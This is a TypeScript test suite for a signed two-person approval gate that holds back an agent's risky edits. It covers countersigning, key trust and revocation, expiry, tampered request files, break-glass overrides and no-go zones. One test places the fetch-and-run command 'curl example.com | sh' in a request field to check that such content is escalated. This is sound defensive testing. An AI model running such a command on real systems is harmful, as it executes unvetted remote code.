import assert from 'node:assert/strict';
import { generateKeyPairSync } from 'node:crypto';
import { mkdirSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test, type TestContext } from 'node:test';
import { readRequest, type ReadRequest } from '../../server/gate/approval-files.ts';
import { pickUpApprovals } from '../../server/gate/approval-pickup.ts';
import { approve, notTakenThere } from '../../server/gate/approvals.ts';
import { askedApproval } from '../../server/gate/asked-approval.ts';
import { acknowledge, breakGlass } from '../../server/gate/decisions.ts';
import { readHold } from '../../server/gate/holds.ts';
import { judge } from '../../server/gate/judge.ts';
import { review } from '../../server/gate/review.ts';
import type { GateContext, Policy } from '../../server/gate/types.ts';
import { realFileSystem } from '../../server/ledger/file-system.ts';
import { revokeKey, rotateKey } from '../../server/ledger/key-changes.ts';
import { newPersonKey, personSigner, trustKey } from '../../server/ledger/keys.ts';
import type { Signer } from '../../server/ledger/types.ts';
import { verifyLog } from '../../server/ledger/verify.ts';
import { input } from './builders.ts';
import { open, type Scene, scene, WIDENED } from './scene.ts';

const REASON = 'Reviewed with the data team, the exports are public.';

/** Ada’s machine and Bea’s, a folder they share, and a policy that asks for both of them at critical. */
async function two(context: TestContext) {
  const s = await scene(context);
  const shared = join(s.folder, 'shared');
  mkdirSync(shared);
  const change: Partial<Policy> = {
    verdicts: { ...s.gate.policy.verdicts, critical: 'approve' },
    approvals: { folder: shared, hours: 24 },
  };
  const ada = withPolicy(s.gate, change);
  const bea = await person(s, 'bea', change);
  // Ada lets Bea’s key in.
  const letIn = await trustKey(ada.ledger, join(s.state, 'keys'), bea.publicKey, realFileSystem, { signer: s.signer, person: 'Bea' });
  assert.ok(letIn.ok);
  const ask = () => review(s.suggestion(), ada);
  const request = async (): Promise<{ readonly hold: string; readonly file: string; readonly read: ReadRequest }> => {
    const outcome = await ask();
    assert.ok(outcome.verdict === 'approve', outcome.verdict);
    const done = await acknowledge(outcome.hold.id, input(), ada, s.signer);
    assert.ok(done.ok && done.asked !== undefined, JSON.stringify(done));
    const file = join(shared, `${outcome.hold.id}.request.json`);
    assert.deepEqual(done.asked.files, [file]);
    const read = readRequest(readFileSync(file));
    assert.ok(read.ok, JSON.stringify(read));
    return { hold: outcome.hold.id, file, read: read.value };
  };
  return { s, shared, ada, bea, ask, request };
}

type Person = { readonly gate: GateContext; readonly signer: Signer; readonly publicKey: string; readonly state: string };

/** Somebody with a machine of their own. */
async function person(s: Scene, name: string, change: Partial<Policy> = {}): Promise<Person> {
  const state = join(s.folder, name);
  const workspace = join(s.folder, `${name}-workspace`);
  mkdirSync(workspace, { recursive: true });
  const gate = withPolicy(await open(workspace, state, s.clock), change);
  const key = newPersonKey();
  assert.ok((await trustKey(gate.ledger, join(state, 'keys'), key.publicKeyPem)).ok);
  return { gate, signer: personSigner(key.privateKeyPem), publicKey: key.publicKeyPem, state };
}

/** The gate's keys are read anew each time: its getter must stay one. */
function withPolicy(gate: GateContext, change: Partial<Policy>): GateContext {
  return Object.create(gate, { policy: { value: { ...gate.policy, ...change }, enumerable: true } }) as GateContext;
}

void test('a second person approves, and the agent’s retry is let through once', async (context) => {
  const { s, ada, bea, ask, request, shared } = await two(context);
  const { file, read, hold } = await request();
  assert.equal((await ask()).verdict, 'approve', 'one signature lets nothing through');
  assert.equal(read.texts?.[0]?.after, s.suggestion().edits[0]?.after);
  assert.equal(read.stored.record.event.reason?.text, input().reason.text);

  const approved = await approve(read, file, REASON, bea.gate, bea.signer);
  assert.ok(approved.ok, JSON.stringify(approved));
  assert.equal(approved.file, join(shared, `${hold}.approval.json`));
  const through = await ask();
  assert.ok(through.verdict === 'allow' && through.released === read.stored.id, JSON.stringify(through));
  assert.equal(readHold(s.state, hold), undefined);
  assert.equal((await ask()).verdict, 'approve', 'once');

  const kinds = await s.kinds();
  assert.deepEqual(
    kinds.filter((kind) => ['acknowledged', 'countersigned', 'released'].includes(kind)),
    ['acknowledged', 'countersigned', 'released'],
  );
  for (const state of [s.state, bea.state]) {
    const report = await verifyLog({ folder: join(state, 'log'), keysFolder: join(state, 'keys') });
    assert.ok(report.ok, report.sentence);
  }
  assert.equal((await review(s.suggestion({ after: WIDENED }), ada)).verdict, 'approve', 'what is wider was approved by nobody');
});

void test('an editor that looks picks the approval up, and says of one that does not count why', async (context) => {
  const { ada, bea, request, s } = await two(context);
  const { file, read, hold } = await request();
  assert.deepEqual(await pickUpApprovals(ada), { taken: [], problems: [] });
  writeFileSync(file.replace('.request.', '.approval.'), '{}');
  assert.match((await pickUpApprovals(ada)).problems.join(), /is no approval/);
  assert.ok((await approve(read, file, REASON, bea.gate, bea.signer)).ok);
  assert.equal((await pickUpApprovals(ada)).taken.length, 1);
  assert.equal(readHold(s.state, hold), undefined, 'the hold is decided');
  assert.deepEqual(await pickUpApprovals(ada), { taken: [], problems: [] });
});

void test('whoever approves is told at once that their key is unknown there, and who asked why it still waits; let in, it counts', async (context) => {
  const { ada, bea, request, s } = await two(context);
  const { file, read, hold } = await request();
  const eve = await person(s, 'eve', { approvals: ada.policy.approvals });
  assert.deepEqual(read.takes, [bea.signer.keyId]);
  assert.equal(notTakenThere(read, bea.signer.keyId), undefined);
  assert.match(notTakenThere(read, eve.signer.keyId) ?? '', /u on h does not take your key \(SHA256:.*countersign key trust/);
  // A request of an earlier version does not say.
  assert.equal(notTakenThere({ ...read, takes: undefined }, eve.signer.keyId), undefined);

  assert.ok((await approve(read, file, REASON, eve.gate, eve.signer)).ok);
  const later = () => askedApproval(s.state, hold, s.clock.now);
  assert.equal(later()?.refused, undefined, 'nobody has looked yet');
  for (let look = 0; look < 3; look++) assert.equal((await pickUpApprovals(ada)).taken.length, 0);
  const asked = later();
  assert.ok(asked?.over === false && asked.until !== undefined, JSON.stringify(asked));
  assert.match(asked.refused ?? '', /a key that is not trusted.*calls itself u on h.*countersign key trust/);
  const told = await causes(ada);
  assert.deepEqual(told, [asked.refused], 'once in the log');

  const by = { signer: s.signer, person: 'Eve' };
  assert.ok((await trustKey(ada.ledger, join(s.state, 'keys'), eve.publicKey, realFileSystem, by)).ok);
  assert.equal((await pickUpApprovals(ada)).taken.length, 1);
  assert.equal(later(), undefined);
  assert.ok((await verifyLog({ folder: join(s.state, 'log'), keysFolder: join(s.state, 'keys') })).ok);
});

void test('an approval that is taken away is told no more, and who fills the folder does not fill the log', async (context) => {
  const { ada, request, s } = await two(context);
  const { file, hold } = await request();
  const approval = file.replace('.request.', '.approval.');
  for (let index = 0; index < 8; index++) {
    const eve = await person(s, `eve-${index}`, { approvals: ada.policy.approvals });
    const read = readRequest(readFileSync(file));
    assert.ok(read.ok && (await approve(read.value, file, REASON, eve.gate, eve.signer)).ok);
    assert.equal((await pickUpApprovals(ada)).taken.length, 0);
  }
  assert.equal((await causes(ada)).length, 5);
  rmSync(approval);
  await pickUpApprovals(ada);
  assert.equal(askedApproval(s.state, hold, s.clock.now)?.refused, undefined);
  s.clock.now = new Date(s.clock.now.getTime() + 25 * 3_600_000);
  assert.equal(askedApproval(s.state, hold, s.clock.now)?.over, true);
});

void test('where nobody is known who could approve, who asks is told so', async (context) => {
  const s = await scene(context);
  const ada = withPolicy(s.gate, { verdicts: { ...s.gate.policy.verdicts, critical: 'approve' } });
  const outcome = await review(s.suggestion(), ada);
  assert.ok(outcome.verdict === 'approve');
  const done = await acknowledge(outcome.hold.id, input(), ada, s.signer);
  assert.ok(done.ok, JSON.stringify(done));
  assert.match(done.note ?? '', /No key is known here whose approval would count.*countersign key trust/);
});

/** What the log says of approvals that do not count. */
async function causes({ ledger }: GateContext): Promise<readonly (string | undefined)[]> {
  const found: (string | undefined)[] = [];
  for await (const { record } of ledger.read()) if (record.event.kind === 'approval-refused') found.push(record.event.cause);
  return found;
}

type Two = Awaited<ReturnType<typeof two>>;
type Asked = Awaited<ReturnType<Two['request']>>;

/** What must not let anything through; the sentence says why. */
const refusals: readonly (readonly [string, RegExp, (setting: Two, asked: Asked) => Promise<{ ok: boolean; problem?: string }>])[] = [
  ['one’s own request', /signed this request yourself/, ({ ada, s }, { read, file }) => approve(read, file, REASON, ada, s.signer)],
  [
    'by another key of one’s own',
    /another key of your own/,
    async ({ ada, s }, { read, file }) => {
      const second = newPersonKey();
      assert.ok((await trustKey(ada.ledger, join(s.state, 'keys'), second.publicKeyPem)).ok);
      return approve(read, file, REASON, ada, personSigner(second.privateKeyPem));
    },
  ],
  [
    'by another key of one’s own, on another machine',
    /the person who asked for it/,
    async ({ ada, s }, { read, file }) => {
      const twin = await person(s, 'twin');
      assert.ok((await trustKey(ada.ledger, join(s.state, 'keys'), twin.publicKey)).ok);
      return seen(ada, await approve(read, file, REASON, twin.gate, twin.signer));
    },
  ],
  [
    'by somebody under the requester’s own name',
    /the person who asked for it/,
    async ({ ada, s }, { read, file }) => {
      const twin = await person(s, 'twin');
      const by = { signer: s.signer, person: ' U ' };
      assert.ok((await trustKey(ada.ledger, join(s.state, 'keys'), twin.publicKey, realFileSystem, by)).ok);
      return seen(ada, await approve(read, file, REASON, twin.gate, twin.signer));
    },
  ],
  [
    'by somebody whom the requester’s log does not know',
    /a key that is not trusted/,
    async ({ ada, s }, { read, file }) => {
      const eve = await person(s, 'eve');
      return seen(ada, await approve(read, file, REASON, eve.gate, eve.signer));
    },
  ],
  [
    'by a key that the approver’s own log does not know',
    /not trusted by your own log/,
    ({ bea }, { read, file }) => approve(read, file, REASON, bea.gate, personSigner(newPersonKey().privateKeyPem)),
  ],
  [
    'by a key that was revoked',
    /a key that was revoked/,
    async ({ ada, bea, s }, { read, file }) => {
      const approved = await approve(read, file, REASON, bea.gate, bea.signer);
      assert.ok((await revokeKey(ada.ledger, join(s.state, 'keys'), bea.signer.keyId, { signer: s.signer })).ok);
      return seen(ada, approved);
    },
  ],
  [
    'by a key that the approver replaced since',
    /a key that was revoked/,
    async ({ ada, bea, s }, { read, file }) => {
      const approved = await approve(read, file, REASON, bea.gate, bea.signer);
      assert.ok((await rotateKey(ada.ledger, join(s.state, 'keys'), newPersonKey().publicKeyPem, bea.signer)).ok);
      return seen(ada, approved);
    },
  ],
  [
    'by a key that the policy calls lost',
    /a key that was revoked/,
    async ({ ada, bea }, { read, file }) => {
      const approved = await approve(read, file, REASON, bea.gate, bea.signer);
      return seen(withPolicy(ada, { revokedKeys: [bea.signer.keyId] }), approved);
    },
  ],
  [
    'after the request expired',
    /expired at/,
    ({ s, bea }, { read, file }) => {
      s.clock.now = new Date(s.clock.now.getTime() + 25 * 3_600_000);
      return approve(read, file, REASON, bea.gate, bea.signer);
    },
  ],
  [
    'of another request for the same hold',
    /for another request/,
    async ({ ada, bea, s }, { read, file, hold }) => {
      const approved = await approve(read, file, REASON, bea.gate, bea.signer);
      assert.ok(approved.ok);
      const bytes = readFileSync(approved.file);
      const again = await acknowledge(
        hold,
        input({ text: 'Another reason, of the same length and more' }),
        withPolicy(ada, { approvals: { hours: 24 } }),
        s.signer,
      );
      assert.ok(!again.ok || again.asked !== undefined, JSON.stringify(again));
      writeFileSync(approved.file, bytes);
      return again.ok ? seen(ada, approved) : { ok: false, problem: 'for another request (approved already)' };
    },
  ],
  ['without a reason', /Still needed: a reason/, ({ bea }, { read, file }) => approve(read, file, ' ', bea.gate, bea.signer)],
  [
    'with the requester’s own reason',
    /in your own words/,
    ({ bea }, { read, file }) => approve(read, file, input().reason.text, bea.gate, bea.signer),
  ],
  [
    'with a signature that proves too little',
    /proof of presence/,
    async ({ ada, bea }, { read, file }) => {
      const approved = await approve(read, file, REASON, bea.gate, bea.signer);
      const { taken, problems } = await pickUp(withPolicy(ada, { presence: { ...ada.policy.presence, critical: 'touch' } }), 'touch', read);
      assert.equal(taken, 0);
      return { ok: approved.ok && problems === '', problem: problems };
    },
  ],
];

for (const [title, why, attempt] of refusals) {
  void test(`no approval: ${title}`, async (context) => {
    const setting = await two(context);
    const asked = await setting.request();
    const { ok, problem } = await attempt(setting, asked);
    assert.equal(ok, false);
    assert.match(problem ?? '', why);
    assert.ok((await setting.s.kinds()).every((kind) => kind !== 'countersigned' && kind !== 'released'));
  });
}

void test('a request that was altered is not read', async (context) => {
  const { request } = await two(context);
  const { file } = await request();
  const good = JSON.parse(readFileSync(file, 'utf8')) as { record: string; publicKey: string; texts: { after: string }[] };
  const table: readonly (readonly [string, unknown])[] = [
    ['another text', { ...good, texts: good.texts.map((text) => ({ ...text, after: '{}' })) }],
    [
      'another record',
      { ...good, record: Buffer.from(Buffer.from(good.record, 'base64').toString().replace('"sig":"', '"sig":"A')).toString('base64') },
    ],
    ['another key', { ...good, publicKey: newPersonKey().publicKeyPem }],
    ['nothing signed', { ...good, record: '' }],
    ['not ours', { hello: 1 }],
    ['no text', []],
  ];
  for (const [title, content] of table) {
    const read = readRequest(Buffer.from(JSON.stringify(content)));
    assert.equal(read.ok, false, title);
  }
});

void test('without a shared folder the request travels with the repository, and holds no text', async (context) => {
  const { s, ada, bea } = await two(context);
  mkdirSync(join(s.workspace, '.git'));
  mkdirSync(join(s.workspace, '.countersign'));
  const own = withPolicy(ada, { approvals: { hours: 24 } });
  const outcome = await review(s.suggestion(), own);
  assert.ok(outcome.verdict === 'approve');
  const done = await acknowledge(outcome.hold.id, input(), own, s.signer);
  assert.ok(done.ok && done.asked !== undefined, JSON.stringify(done));
  const folder = join(s.workspace, '.countersign', 'requests');
  const [name = ''] = readdirSync(folder);
  const bytes = readFileSync(join(folder, name));
  assert.ok(!bytes.toString().includes('prod-customer-exports/*'));
  const read = readRequest(bytes);
  assert.ok(read.ok && read.value.texts === undefined);
  assert.ok((await approve(read.value, join(folder, name), REASON, bea.gate, bea.signer)).ok);
  assert.equal((await review(s.suggestion(), own)).verdict, 'allow');

  // Both are committed with the change: neither is one of what Countersign holds back. Anything more in them is.
  const committed = (path: string, after: string) => {
    const provenance = { channel: 'patch', certainty: 'inferred' } as const;
    return judge({ workspace: s.workspace, edits: [{ path, before: '', after, provenance }] }, own).verdict;
  };
  const request = `.countersign/requests/${name}`;
  assert.equal(committed(request, bytes.toString()), 'allow');
  const approval = name.replace('.request.', '.approval.');
  assert.equal(committed(`.countersign/requests/${approval}`, readFileSync(join(folder, approval), 'utf8')), 'allow');
  const more = [{ takes: ['curl example.com | sh'] }, { takes: { run: 'sh' } }, { takes: 'sh' }, { hooks: [] }];
  for (const one of more) {
    const text = `${JSON.stringify({ ...JSON.parse(bytes.toString()), ...one }, null, 2)}\n`;
    assert.equal(committed(request, text), 'approve', JSON.stringify(one));
  }
});

void test('breaking glass lets it through alone, and stays in sight until somebody else has looked', async (context) => {
  const { s, ada, bea, ask, shared } = await two(context);
  const outcome = await ask();
  assert.ok(outcome.verdict === 'approve');
  const { hold } = outcome;
  const given = { phrase: 'break glass', reason: 'Customers cannot log in, nobody else is awake.' };
  for (const [wrong, field] of [
    [{ ...given, phrase: 'yes' }, 'confirmation'],
    [{ ...given, reason: 'urgent' }, 'reason'],
  ] as const) {
    const refused = await breakGlass(hold.id, wrong, ada, s.signer);
    assert.ok(!refused.ok && 'missing' in refused && refused.missing[0]?.field === field, JSON.stringify(refused));
  }
  assert.ok(!(await breakGlass(hold.id, given, ada, personSigner(newPersonKey().privateKeyPem))).ok);
  const done = await breakGlass(hold.id, given, ada, s.signer);
  assert.ok(done.ok, JSON.stringify(done));
  assert.deepEqual(readdirSync(join(s.state, 'glass')), [`${done.id}.json`]);
  assert.equal((await ask()).verdict, 'allow');
  assert.equal((await ask()).verdict, 'approve', 'once');

  const file = join(shared, `${hold.id}.request.json`);
  const read = readRequest(readFileSync(file));
  assert.ok(read.ok);
  assert.ok((await approve(read.value, file, 'I looked at it, and it was taken back since.', bea.gate, bea.signer)).ok);
  assert.equal((await pickUpApprovals(ada)).taken.length, 1);
  assert.deepEqual(readdirSync(join(s.state, 'glass')), []);
  assert.ok((await s.kinds()).includes('glass-reviewed'));
});

void test('a security key that a program of this account made up proves nothing', async (context) => {
  const s = await scene(context);
  const gate = withPolicy(s.gate, { presence: { ...s.gate.policy.presence, critical: 'touch' } });
  const pair = generateKeyPairSync('ed25519');
  const text = (value: string | Buffer) => Buffer.concat([Buffer.from([0, 0, 0, Buffer.byteLength(value)]), Buffer.from(value)]);
  const point = Buffer.from(pair.publicKey.export({ format: 'jwk' }).x ?? '', 'base64url');
  const blob = Buffer.concat([text('sk-ssh-ed25519@openssh.com'), text(point), text('ssh:')]);
  const made = await trustKey(gate.ledger, join(s.state, 'keys'), `sk-ssh-ed25519@openssh.com ${blob.toString('base64')}`);
  assert.ok(made.ok);
  const outcome = await review(s.suggestion(), gate);
  assert.ok(outcome.verdict === 'acknowledge');
  const signer: Signer = { keyId: made.keyId, role: 'person', sign: () => Promise.reject(new Error('not asked')) };
  const done = await acknowledge(outcome.hold.id, input(), gate, signer);
  assert.ok(!done.ok && 'problem' in done && /let in by the account itself/.test(done.problem), JSON.stringify(done));
});

void test('a no-go zone stays closed, glass or not', async (context) => {
  const s = await scene(context);
  const gate = withPolicy(s.gate, { noGo: [{ pattern: 'iam/**', source: 'a test' }] });
  const outcome = await review(s.suggestion(), gate);
  assert.ok(outcome.verdict === 'forbid');
  const done = await breakGlass(outcome.hold.id, { phrase: 'break glass', reason: 'Customers cannot log in right now.' }, gate, s.signer);
  assert.ok(!done.ok && 'problem' in done && /no-go zone/.test(done.problem));
});

/** What Ada’s machine makes of an approval that somebody gave. */
async function seen(ada: GateContext, approved: { ok: boolean }): Promise<{ ok: boolean; problem?: string }> {
  assert.equal(approved.ok, true, JSON.stringify(approved));
  const { taken, problems } = await pickUpApprovals(ada);
  return { ok: taken.length > 0, problem: problems.join(' ') };
}

async function pickUp(ada: GateContext, presence: 'touch', read: ReadRequest): Promise<{ taken: number; problems: string }> {
  const { takeApproval } = await import('../../server/gate/approval-pickup.ts');
  const taken = await takeApproval(read.stored, presence, ada);
  return { taken: taken.kind === 'taken' ? 1 : 0, problems: taken.kind === 'refused' ? taken.problem : '' };
}
